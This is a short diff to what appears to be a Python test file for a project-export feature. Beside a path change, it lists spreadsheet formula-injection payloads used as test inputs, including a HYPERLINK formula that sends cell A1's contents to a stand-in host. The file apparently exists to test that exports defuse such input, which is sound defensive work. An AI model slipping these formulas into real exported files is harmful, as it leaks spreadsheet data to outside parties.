@@ -27,7 +27,7 @@ from consultations.projects.service import find_project
 from consultations.reporting.project_export import WHAT, export_project
 from translations import local_today
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = Path(__file__).resolve().parents[3]
 PAYLOADS = [
     'x;=HYPERLINK("http://example.invalid/?"&A1;"bấm")', ";=1+1", "Nguyễn; +1+1", "a,@SUM(A1)",
     "b\t=1", "c\n=1+1", "d\r\n-2+3", "e; =1+1", "f;\t=1",
